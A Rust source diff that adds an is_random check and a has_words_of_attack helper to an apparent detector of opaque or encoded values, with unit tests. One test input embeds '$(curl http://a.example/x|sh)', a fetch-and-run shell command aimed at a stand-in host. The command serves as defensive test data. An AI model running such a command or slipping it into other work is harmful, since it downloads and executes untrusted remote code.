@@ -9,6 +9,8 @@ const MIN_BINARY_BYTES: usize = 64;
 const MIN_OPAQUE_BYTES: usize = 48;
 /// Kinds of punctuation in an opaque value: code and markup use fewer.
 const MIN_OPAQUE_MARKS: u32 = 14;
+/// Different bytes in random data as short as an opaque value; padding repeats fewer.
+const MIN_RANDOM_BYTES: u32 = 32;
 /// Letters in a row that count as a word.
 const MIN_WORD: usize = 4;
 /// Consonants in a row in a word; shifted and other encrypted letters have more.
@@ -38,7 +40,22 @@ pub(super) fn is_opaque(value: &[u8], matched: &[u8]) -> bool {
     value.len() >= MIN_OPAQUE_BYTES
         && !has_words(value, value.len().div_ceil(8))
         && marks(value) >= MIN_OPAQUE_MARKS
-        && !has_words(matched, matched.len() / 5 + 1)
+        && !has_words_of_attack(matched)
+}
+
+/// Whether a match has the words of a command, a query or an address.
+pub(super) fn has_words_of_attack(matched: &[u8]) -> bool {
+    has_words(matched, matched.len() / 5 + 1)
+}
+
+/// Whether a value has many different bytes, and not only punctuation: more than padding has.
+pub(super) fn is_random(value: &[u8]) -> bool {
+    let mut seen = [0_u128; 2];
+    for &byte in value {
+        seen[usize::from(byte >> 7)] |= 1 << (byte & 0x7F);
+    }
+    let marks = value.iter().filter(|byte| byte.is_ascii_punctuation()).count();
+    seen[0].count_ones() + seen[1].count_ones() >= MIN_RANDOM_BYTES && 5 * marks <= 3 * value.len()
 }
 
 /// The number of different punctuation characters.
@@ -72,6 +89,9 @@ mod tests {
         let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^"#;
         assert!(is_opaque(value, b"'l;b"));
         assert!(!is_opaque(&value[..30], b"'l;b"));
+        assert!(is_random(value));
+        assert!(!is_random(&b"!#$%&()*+,-./:;<=>?@[]^_{|}~".repeat(4)));
+        assert!(!is_random(&[[0x0B; 60].as_slice(), b"$(curl http://a.example/x|sh)"].concat()));
     }
 
     #[test]
